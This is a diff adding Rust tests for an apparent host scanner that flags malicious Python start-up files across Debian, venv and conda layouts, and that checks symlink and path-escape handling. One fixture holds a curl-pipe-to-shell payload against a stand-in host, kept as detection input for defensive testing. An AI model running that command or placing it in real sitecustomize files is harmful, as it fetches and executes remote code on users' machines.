@@ -491,3 +491,155 @@ fn a_record_rewritten_in_place_invalidates_the_site_index() {
     let second = t.generate(&QueryContext::all()).unwrap();
     assert!(!has(&at(&second, &helper), "unrecorded-file"));
 }
+
+/// Ubuntu's own `/etc/python3.X/sitecustomize.py` (installs apport's
+/// exception hook): the benign look-alike of a start-up payload.
+const UBUNTU_SITECUSTOMIZE: &str = "# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n";
+
+const EVIL_SITECUSTOMIZE: &str = "raise SystemExit(\"squatch test fixture: read as text, never run\")\nimport os\nos.system('curl -s https://payload.invalid/a | sh')\n";
+
+/// A Debian-style system Python: `/usr/bin/python3 -> python3.11`, the
+/// `/usr/lib/python3/dist-packages` site, and the stdlib's
+/// `sitecustomize.py` linked (absolute target) to `/etc/python3.11/`.
+fn debian_host(sitecustomize: &str) -> FakeHost {
+    let fh = FakeHost::new();
+    fh.write("/usr/bin/python3.11", b"#!fake-interpreter\n");
+    fh.symlink("python3.11", "/usr/bin/python3");
+    fh.system_site("/usr/lib/python3/dist-packages");
+    fh.write("/usr/lib/python3.11/os.py", "# stdlib\n");
+    fh.write("/etc/python3.11/sitecustomize.py", sitecustomize);
+    fh.symlink(
+        "/etc/python3.11/sitecustomize.py",
+        "/usr/lib/python3.11/sitecustomize.py",
+    );
+    fh
+}
+
+fn rule_rows<'a>(rows: &'a [Row], rule: &str) -> Vec<&'a Row> {
+    rows.iter()
+        .filter(|r| r.get("rule_id") == Some(rule))
+        .collect()
+}
+
+#[test]
+fn debian_stdlib_sitecustomize_behind_its_symlink_is_scanned_once() {
+    let fh = debian_host(EVIL_SITECUSTOMIZE);
+    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
+        .generate(&QueryContext::all())
+        .unwrap();
+    let etc = Path::new("/etc/python3.11/sitecustomize.py");
+    let sc = at(&rows, etc);
+    assert!(has(&sc, "dl-shell-pipe"), "{rows:#?}");
+    assert_eq!(max_sev(sc.iter().copied()), 4);
+    // Reported at the file that runs, once (not again at the link).
+    let heads = rule_rows(&rows, "startup-customize");
+    assert_eq!(heads.len(), 1, "{heads:#?}");
+    assert_eq!(heads[0].get("path"), etc.to_str());
+    assert_eq!(heads[0].get("severity"), Some("medium"));
+    assert!(heads[0]
+        .get("evidence")
+        .unwrap_or("")
+        .contains("/usr/lib/python3.11/sitecustomize.py"));
+    assert_eq!(
+        heads[0].get("environment"),
+        Some("/usr/lib/python3/dist-packages")
+    );
+    assert!(at(&rows, Path::new("/usr/lib/python3.11/sitecustomize.py")).is_empty());
+}
+
+#[test]
+fn ubuntu_apport_sitecustomize_owned_by_dpkg_stays_low() {
+    let fh = debian_host(UBUNTU_SITECUSTOMIZE);
+    fh.dpkg(
+        "python3.11-minimal",
+        &[
+            PathBuf::from("/etc/python3.11/sitecustomize.py"),
+            PathBuf::from("/usr/lib/python3.11/sitecustomize.py"),
+        ],
+    );
+    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
+        .generate(&QueryContext::all())
+        .unwrap();
+    let sc = at(&rows, Path::new("/etc/python3.11/sitecustomize.py"));
+    assert_eq!(sc.len(), 1, "{sc:#?}");
+    assert_eq!(sc[0].get("rule_id"), Some("startup-customize"));
+    assert_eq!(sc[0].get("severity"), Some("low"));
+    // The same benign text with no package owning it is worth a look only.
+    let fh = debian_host(UBUNTU_SITECUSTOMIZE);
+    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
+        .generate(&QueryContext::all())
+        .unwrap();
+    let sc = at(&rows, Path::new("/etc/python3.11/sitecustomize.py"));
+    assert_eq!(sc.len(), 1, "{sc:#?}");
+    assert_eq!(sc[0].get("severity"), Some("medium"));
+}
+
+#[test]
+fn a_venv_is_checked_at_its_base_interpreter_stdlib_and_conda_at_its_prefix() {
+    let fh = FakeHost::new();
+    // pyvenv.cfg says home = /usr/bin: the base stdlib is /usr/lib/python3.12.
+    fh.venv("/opt/venv", "3.12.1", false);
+    fh.write("/usr/lib/python3.12/usercustomize.py", EVIL_SITECUSTOMIZE);
+    // The venv's own lib/pythonX.Y is not on sys.path: not reported.
+    fh.write(
+        "/opt/venv/lib/python3.12/sitecustomize.py",
+        EVIL_SITECUSTOMIZE,
+    );
+    fh.conda("/opt/conda", "3.11.4");
+    fh.write(
+        "/opt/conda/lib/python3.11/sitecustomize.py",
+        EVIL_SITECUSTOMIZE,
+    );
+    // An ordinary stdlib module is not a start-up file.
+    fh.write("/opt/conda/lib/python3.11/os.py", EVIL_SITECUSTOMIZE);
+    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
+        .generate(&QueryContext::all())
+        .unwrap();
+    let user = at(&rows, Path::new("/usr/lib/python3.12/usercustomize.py"));
+    assert!(has(&user, "startup-customize"), "{rows:#?}");
+    assert!(has(&user, "dl-shell-pipe"));
+    assert_eq!(user[0].get("environment"), Some("/opt/venv"));
+    let conda = at(
+        &rows,
+        Path::new("/opt/conda/lib/python3.11/sitecustomize.py"),
+    );
+    assert!(has(&conda, "dl-shell-pipe"), "{rows:#?}");
+    assert_eq!(conda[0].get("environment"), Some("/opt/conda"));
+    assert!(at(
+        &rows,
+        Path::new("/opt/venv/lib/python3.12/sitecustomize.py")
+    )
+    .is_empty());
+    assert!(at(&rows, Path::new("/opt/conda/lib/python3.11/os.py")).is_empty());
+}
+
+#[test]
+fn a_stdlib_sitecustomize_link_never_leaves_the_root() {
+    let fh = FakeHost::new();
+    fh.write("/usr/bin/python3.11", b"#!fake-interpreter\n");
+    fh.symlink("python3.11", "/usr/bin/python3");
+    fh.system_site("/usr/lib/python3/dist-packages");
+    // A real file next to the fake root, reached only if `..` escaped it.
+    let outside = fh.root().parent().unwrap().join(format!(
+        "{}-outside.py",
+        fh.root().file_name().unwrap().to_string_lossy()
+    ));
+    std::fs::write(&outside, EVIL_SITECUSTOMIZE).unwrap();
+    let climb = format!(
+        "../../../../../../../../../../{}",
+        outside.file_name().unwrap().to_string_lossy()
+    );
+    fh.symlink(&climb, "/usr/lib/python3.11/sitecustomize.py");
+    // And a loop for usercustomize.
+    fh.symlink("usercustomize.py", "/usr/lib/python3.11/usercustomize.py");
+    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
+        .generate(&QueryContext::all())
+        .unwrap();
+    std::fs::remove_file(&outside).unwrap();
+    assert!(
+        !rows
+            .iter()
+            .any(|r| r.get("rule_id") == Some("dl-shell-pipe")),
+        "{rows:#?}"
+    );
+}
